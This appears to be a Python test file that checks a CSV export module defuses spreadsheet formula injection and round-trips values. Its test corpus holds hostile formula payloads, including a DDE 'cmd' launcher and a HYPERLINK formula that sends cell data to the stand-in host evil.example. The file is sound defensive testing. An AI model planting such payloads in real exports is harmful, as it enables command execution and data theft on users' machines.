"""Answers as rows: no spreadsheet takes a cell for a formula, and all of it comes back (T31)."""

import csv
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from troth import answers
from troth.answers import Body, CustomerBody, CustomerList, FreeText, ListBody, Source
from troth.answers.sheets import (
    Column,
    NotASheetError,
    columns,
    header,
    line,
    neutral,
    original,
    read_csv,
)

CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "+49 30 1234567",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "'=1+1",
    "''",
    "'it is fine",
    "＝1+1",
    '"=1+1"',
    '",=1+1,"',
    "a\r\n=1+1",
    ";=1+1",
]
AT = datetime(2026, 12, 1, 9, tzinfo=UTC)
DANGEROUS = tuple("=+-@\t\r\n\0＝＋－＠")


def lists() -> Iterator[type[ListBody[Any]]]:
    """Every list of the API."""
    for name in answers.__all__:
        found = getattr(answers, name)
        if isinstance(found, type) and issubclass(found, ListBody) and found is not ListBody:
            yield found


LISTS = sorted(lists(), key=lambda found: found.__name__)


def form_of(found: type[ListBody[Any]]) -> type[Body]:
    form: type[Body] = get_args(found.model_fields["items"].annotation)[0]
    return form


def row(form: type[Body], text: str) -> list[Any]:
    """A row in which every text says the same."""
    values = {"number": 7, "share": 0.5, "yes-no": True, "instant": AT, "text": text, "json": text}
    return [values[column.kind] for column in columns(form)]


def test_there_are_all_lists() -> None:
    assert len(LISTS) >= 14


@pytest.mark.parametrize("found", LISTS, ids=lambda found: found.__name__)
@pytest.mark.parametrize("text", CORPUS, ids=repr)
def test_no_cell_is_a_formula(found: type[ListBody[Any]], text: str) -> None:
    """Of every list, every text in every column."""
    form = form_of(found)
    said = line(row(form, text), form)
    (parsed,) = csv.reader([*said.splitlines(keepends=True)], strict=True)
    assert len(parsed) == len(columns(form))
    for cell, column in zip(parsed, columns(form), strict=True):
        assert not cell.lstrip(" ").startswith(DANGEROUS), column.name
        if column.kind in {"text", "json"}:
            assert original(cell) == text


@given(text=st.text() | st.sampled_from(CORPUS))
def test_a_text_comes_back(text: str) -> None:
    assert original(neutral(text)) == text
    assert not neutral(text).lstrip(" ").startswith(DANGEROUS)
    assert original(neutral(neutral(text))) == neutral(text)


@given(
    name=st.none() | st.text(min_size=1),
    ref=st.none() | st.text(min_size=1) | st.sampled_from(CORPUS),
    facets=st.dictionaries(st.text(), st.text()),
    sequence=st.integers(-5, 10**12),
)
def test_a_body_comes_back(
    name: str | None, ref: str | None, facets: dict[str, str], sequence: int
) -> None:
    body = CustomerBody(
        id="1",
        sequence=sequence,
        added_at=AT,
        facets=facets,
        name=None if name is None else FreeText(text=name, source=Source.STAFF, hidden=1),
        email=None,
        phone=None,
        ref=ref,
        erased_at=None,
    )
    from troth.answers.sheets import cells

    text = header(CustomerBody) + line(cells(body), CustomerBody)
    # As a file that was opened with newline="" is read.
    assert list(read_csv(text.splitlines(keepends=True), CustomerList)) == [body]


def test_another_csv_is_refused() -> None:
    with pytest.raises(NotASheetError, match="its header is"):
        list(read_csv(["id,name\r\n"], CustomerList))
    with pytest.raises(NotASheetError, match="row 2"):
        list(read_csv([header(CustomerBody), "1\r\n"], CustomerList))


def test_bodies_within_bodies() -> None:
    """A part has a column for each of its keys; where there is none, they are empty."""
    names = [column.name for column in columns(CustomerBody)]
    assert "name.text" in names
    assert Column(("facets",), "json") in columns(CustomerBody)
